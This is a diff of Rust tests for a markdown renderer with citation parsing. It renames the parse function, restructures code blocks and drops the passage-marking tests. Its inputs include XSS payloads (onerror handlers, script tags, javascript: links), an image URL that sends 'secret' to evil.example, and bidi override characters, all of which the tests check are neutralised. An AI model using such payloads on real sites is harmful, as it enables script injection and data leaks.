@@ -11,7 +11,7 @@ fn cite(number: u32, occurrence: u32) -> Inline {
 #[test]
 fn citations_are_found_in_running_text_only() {
     assert_eq!(
-        answer("Blue [1], **red [12]**. `[3]` [see [4]](https://example.com) [2026] [0] [x]"),
+        parse("Blue [1], **red [12]**. `[3]` [see [4]](https://example.com) [2026] [0] [x]"),
         vec![Block::Paragraph(vec![
             text("Blue "),
             cite(1, 0),
@@ -24,23 +24,23 @@ fn citations_are_found_in_running_text_only() {
             text(" [2026] [0] [x]"),
         ])]
     );
-    assert_eq!(answer("a[1][2]"), vec![Block::Paragraph(vec![text("a"), cite(1, 0), cite(2, 1)])]);
+    assert_eq!(parse("a[1][2]"), vec![Block::Paragraph(vec![text("a"), cite(1, 0), cite(2, 1)])]);
 }
 
 #[test]
 fn html_stays_text_and_images_become_their_description() {
     assert_eq!(
-        answer("a <img src=x onerror=alert(1)> ![the **plan**](https://evil.example/?q=secret)"),
+        parse("a <img src=x onerror=alert(1)> ![the **plan**](https://evil.example/?q=secret)"),
         vec![Block::Paragraph(vec![text("a <img src=x onerror=alert(1)> the plan")])]
     );
     assert_eq!(
-        answer("<script>\nalert(1)\n</script>"),
+        parse("<script>\nalert(1)\n</script>"),
         vec![Block::Paragraph(vec![text("<script>\nalert(1)\n</script>")])]
     );
-    assert_eq!(answer("![[1]][ref]\n\n[ref]: https://evil.example/x.png"), vec![Block::Paragraph(vec![cite(1, 0)])]);
+    assert_eq!(parse("![[1]][ref]\n\n[ref]: https://evil.example/x.png"), vec![Block::Paragraph(vec![cite(1, 0)])]);
     // Its description may hold a link, but no more than text may.
     assert_eq!(
-        answer("![a [b](javascript:c) `d`](x)"),
+        parse("![a [b](javascript:c) `d`](x)"),
         vec![Block::Paragraph(vec![text("a b "), Inline::Code("d".into())])]
     );
 }
@@ -63,14 +63,14 @@ fn links_lead_to_the_web_or_to_mail_only() {
     }
     assert_eq!(safe_href(" HTTPS://example.com/a:b "), Some("HTTPS://example.com/a:b".into()));
     assert_eq!(safe_href("mailto:a@example.com"), Some("mailto:a@example.com".into()));
-    assert_eq!(answer("[a](javascript:alert(1))"), vec![Block::Paragraph(vec![text("a")])]);
-    assert_eq!(answer("<javascript:alert(1)>"), vec![Block::Paragraph(vec![text("javascript:alert(1)")])]);
+    assert_eq!(parse("[a](javascript:alert(1))"), vec![Block::Paragraph(vec![text("a")])]);
+    assert_eq!(parse("<javascript:alert(1)>"), vec![Block::Paragraph(vec![text("javascript:alert(1)")])]);
 }
 
 #[test]
 fn blocks_keep_their_structure() {
     assert_eq!(
-        answer("# A\n\n- b\n- c\n  1. d\n\n> e\n\n```rust x\nf[1]\n```\n\n---"),
+        parse("# A\n\n- b\n- c\n  1. d\n\n> e\n\n```rust x\nf[1]\n```\n\n---"),
         vec![
             Block::Heading(1, vec![text("A")]),
             Block::List(
@@ -84,12 +84,12 @@ fn blocks_keep_their_structure() {
                 ]
             ),
             Block::Quote(vec![Block::Paragraph(vec![text("e")])]),
-            Block::Code { language: Some("rust".into()), content: vec![text("f[1]\n")] },
+            Block::Code { language: Some("rust".into()), text: "f[1]\n".into() },
             Block::Rule,
         ]
     );
     assert_eq!(
-        answer("| a | b |\n|---|--:|\n| 1 [1] | 2 |"),
+        parse("| a | b |\n|---|--:|\n| 1 [1] | 2 |"),
         vec![Block::Table(Table {
             columns: vec![Align::Start, Align::End],
             head: vec![vec![text("a")], vec![text("b")]],
@@ -101,7 +101,7 @@ fn blocks_keep_their_structure() {
 #[test]
 fn direction_overrides_are_taken_out() {
     assert_eq!(
-        answer("a\u{202e}b\u{2066}c `\u{202d}d`"),
+        parse("a\u{202e}b\u{2066}c `\u{202d}d`"),
         vec![Block::Paragraph(vec![text("abc "), Inline::Code("d".into())])]
     );
 }
@@ -121,61 +121,24 @@ fn depth(blocks: &[Block]) -> usize {
 #[test]
 fn what_is_nested_without_end_is_flattened_and_loses_no_word() {
     let quotes = format!("{}deep", "> ".repeat(5_000));
-    let blocks = answer(&quotes);
+    let blocks = parse(&quotes);
     assert!(depth(&blocks) <= MAX_DEPTH + 1, "{}", depth(&blocks));
     assert!(format!("{blocks:?}").contains("deep"));
 
     let lists: String = (0..400).map(|level| format!("{}- item{level}\n", "  ".repeat(level))).collect();
-    let blocks = answer(&lists);
+    let blocks = parse(&lists);
     assert!(depth(&blocks) <= MAX_DEPTH + 1);
     let shown = format!("{blocks:?}");
     assert!((0..400).all(|level| shown.contains(&format!("item{level}"))));
 
     let emphasis = format!("{}x{}", "*a **b ".repeat(2_000), "** *".repeat(2_000));
-    assert!(format!("{:?}", answer(&emphasis)).contains('x'));
+    assert!(format!("{:?}", parse(&emphasis)).contains('x'));
 }
 
 #[test]
 fn half_an_answer_is_shown_as_far_as_it_goes() {
-    assert_eq!(answer("```\nlet a"), vec![Block::Code { language: None, content: vec![text("let a")] }]);
-    assert_eq!(answer("so **bo"), vec![Block::Paragraph(vec![text("so **bo")])]);
-    assert_eq!(answer("as said [1"), vec![Block::Paragraph(vec![text("as said [1")])]);
-    assert_eq!(answer(""), vec![]);
-}
-
-fn mark(first: bool, content: Vec<Inline>) -> Inline {
-    Inline::Mark { first, content }
-}
-
-#[test]
-fn the_cited_passage_of_a_document_is_marked() {
-    assert_eq!(
-        source("one two [1] three", Some(4..11)),
-        vec![Block::Paragraph(vec![text("one "), mark(true, vec![text("two [1]")]), text(" three")])]
-    );
-    // Over the edges of emphasis, code, lines and blocks; the first part alone has the id.
-    assert_eq!(
-        source("a **b** `c`\nd\n\ne f", Some(2..16)),
-        vec![
-            Block::Paragraph(vec![
-                text("a "),
-                Inline::Strong(vec![mark(true, vec![text("b")])]),
-                mark(false, vec![text(" "), Inline::Code("c".into()), text(" "), text("d")]),
-            ]),
-            Block::Paragraph(vec![mark(false, vec![text("e")]), text(" f")]),
-        ]
-    );
-    assert_eq!(
-        source("```\nab\n```", Some(5..6)),
-        vec![Block::Code { language: None, content: vec![text("a"), mark(true, vec![text("b")]), text("\n")] }]
-    );
-}
-
-#[test]
-fn a_range_outside_the_text_marks_nothing() {
-    for range in [0..0, 9..9, 50..60] {
-        assert_eq!(source("øre", Some(range)), vec![Block::Paragraph(vec![text("øre")])]);
-    }
-    // In the middle of a character: never a panic.
-    assert_eq!(source("øre", Some(1..2)), vec![Block::Paragraph(vec![mark(true, vec![text("ø")]), text("re")])]);
+    assert_eq!(parse("```\nlet a"), vec![Block::Code { language: None, text: "let a".into() }]);
+    assert_eq!(parse("so **bo"), vec![Block::Paragraph(vec![text("so **bo")])]);
+    assert_eq!(parse("as said [1"), vec![Block::Paragraph(vec![text("as said [1")])]);
+    assert_eq!(parse(""), vec![]);
 }
